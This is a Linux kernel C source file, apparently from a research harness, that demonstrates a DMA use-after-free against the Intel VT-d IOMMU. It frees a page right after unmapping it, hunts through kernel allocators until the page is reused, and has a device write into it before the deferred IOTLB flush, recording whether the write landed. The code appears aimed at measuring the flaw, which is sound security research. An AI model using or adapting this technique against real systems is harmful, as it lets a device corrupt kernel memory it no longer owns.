// SPDX-License-Identifier: GPL-2.0
/* A device writes to memory that was freed right after its unmap. */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mempool.h>
#include <linux/mm.h>
#include <linux/slab.h>

#include "attack.h"

/* Allocations that look for one page; the allocator gives out first what was freed last. */
#define SEARCH	512
/* A deferred flush has ended after this time: the kernel's timer for it is of 10 ms. */
#define FLUSHED_MS	50

/* Where the memory comes from, and where it goes back to. */
struct allocator {
	struct page *(*get)(void);
	void (*put)(struct page *page);
};

struct search {
	const struct allocator *from;
	struct page *pages[SEARCH];
	int count;
};

static struct page *get_page_of_kernel(void)
{
	return alloc_page(GFP_ATOMIC | __GFP_NOWARN);
}

static void put_page_of_kernel(struct page *page)
{
	__free_page(page);
}

/* An object that has just a page of its slab. */
static struct page *get_object(void)
{
	void *object = kmalloc(PAGE_SIZE, GFP_ATOMIC | __GFP_NOWARN);

	return object ? virt_to_page(object) : NULL;
}

static void put_object(struct page *page)
{
	kfree(page_address(page));
}

/* A pool that reuses its one page, which is never freed. */
static mempool_t *pool;
static struct page *pooled;

static void *pool_alloc(gfp_t gfp, void *data)
{
	if (pooled)
		return NULL;
	pooled = alloc_page(gfp);
	return pooled;
}

static void pool_free(void *element, void *data)
{
	__free_page(element);
	pooled = NULL;
}

static struct page *get_pooled(void)
{
	return mempool_alloc(pool, GFP_NOWAIT);
}

static void put_pooled(struct page *page)
{
	mempool_free(page, pool);
}

static const struct allocator allocators[] = {
	[FREED] = { get_page_of_kernel, put_page_of_kernel },
	[FREED_SLAB] = { get_object, put_object },
	[FREED_POOL] = { get_pooled, put_pooled },
};

/*
 * Allocate until @page is among what was allocated. Return how many that took, or 0 if it was
 * not found; search_end() frees them.
 */
static int search_for(struct search *search, struct page *page)
{
	while (search->count < SEARCH) {
		struct page *got = search->from->get();

		if (!got)
			break;
		search->pages[search->count++] = got;
		if (got == page)
			return search->count;
	}
	return 0;
}

static void search_end(struct search *search)
{
	while (search->count > 0)
		search->from->put(search->pages[--search->count]);
}

/* Wait until the allocator has the page: no one has a reference, or an allocation gets it. */
static void wait_until_free(struct search *search, struct page *page, ktime_t unmapped,
			    struct result *r)
{
	do {
		/* Another processor may have freed it, and then has it in its list. */
		bool found = !page_ref_count(page) || search_for(search, page);

		r->back_us = ktime_us_delta(ktime_get(), unmapped);
		search_end(search);
		if (found)
			break;
		usleep_range(50, 100);
	} while (r->back_us < WINDOW_LIMIT_US);
}

/*
 * Free a page right after it was unmapped, and make the device write to its address once
 * another owner has got the page. Interrupts are off until then, so that no deferred
 * flush ends the window early, and so that the allocator's list is this processor's.
 *
 * If no allocation gets the page, the device writes to it nevertheless: it can be looked at if
 * one reference is left, which is the IOMMU driver's.
 */
static int attack_freed(struct vtd_attack *a, const struct scenario *s, struct search *search,
			struct result *r)
{
	struct page *page = search->from->get();
	struct device *dev = &a->dev.pdev->dev;
	unsigned long flags;
	ktime_t unmapped;
	int err;

	if (!page)
		return -ENOMEM;
	r->frame = page_to_phys(page);
	r->iova = dma_map_page(dev, page, 0, PAGE_SIZE, s->dir);
	if (dma_mapping_error(dev, r->iova)) {
		search->from->put(page);
		return -ENOMEM;
	}
	/* The allocator has a list for each processor. */
	migrate_disable();
	/* Earlier unmaps may have a flush pending. */
	msleep(FLUSHED_MS);
	err = vtd_attack_warm_up(a, page, r->iova, &r->warm);
	local_irq_save(flags);
	dma_unmap_page(dev, r->iova, PAGE_SIZE, s->dir);
	unmapped = ktime_get();
	r->refs[0] = page_ref_count(page);
	search->from->put(page);
	r->refs[1] = page_ref_count(page);
	r->reused = search_for(search, page);
	r->intact = true;
	if (!err && (r->reused || r->refs[1] == 1)) {
		bool landed;

		vtd_attack_fill(page);
		err = vtd_attack_strike(a, s, page, r->iova, &landed);
		r->intact = vtd_attack_intact(page);
		r->landed = landed && r->reused;
		r->stale = landed && !r->reused;
	}
	local_irq_restore(flags);

	search_end(search);
	wait_until_free(search, page, unmapped, r);
	/* A page that is not held is free before the flush, which this attack's trace must have. */
	msleep(FLUSHED_MS);
	migrate_enable();
	return err;
}

int vtd_attack_freed(struct vtd_attack *a, const struct scenario *s, struct result *r)
{
	struct search *search = kvzalloc(sizeof(*search), GFP_KERNEL);
	int err = -ENOMEM;

	if (!search)
		return -ENOMEM;
	search->from = &allocators[s->how];
	pooled = NULL;
	pool = mempool_create(1, pool_alloc, pool_free, NULL);
	if (pool) {
		err = attack_freed(a, s, search, r);
		mempool_destroy(pool);
	}
	kvfree(search);
	return err;
}
